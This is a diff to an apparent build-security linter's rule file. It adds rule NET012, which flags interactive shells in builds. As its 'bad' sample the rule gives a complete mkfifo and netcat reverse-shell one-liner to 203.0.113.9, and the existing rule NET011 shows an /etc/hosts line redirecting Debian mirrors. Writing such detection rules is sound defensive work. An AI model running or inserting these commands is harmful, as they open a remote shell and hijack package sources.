@@ -170,3 +170,16 @@ rule "NET011" {
   bad      = ["echo '203.0.113.9 deb.debian.org security.debian.org' >> /etc/hosts"]
   good     = ["echo '127.0.1.1 app app.example.org' >> /etc/hosts"]
 }
+
+rule "NET012" {
+  title    = "interactive shell in a build"
+  severity = "high"
+  on       = "exec"
+  when     = is_shell(exec.name) && has_flag(exec, "i", "interactive") && !has_flag(exec, "c")
+  message  = "${command} waits for somebody to type commands"
+  why      = "nobody sits before a build; it is how a shell is tied to a pipe or a socket"
+  fix      = "remove it"
+  refs     = ["CWE-912", "ATT&CK T1059.004", "ATT&CK T1095"]
+  bad      = ["rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 1234 > /tmp/f"]
+  good     = ["bash -lc 'nvm install 20'", "bash -ic 'node --version'"]
+}
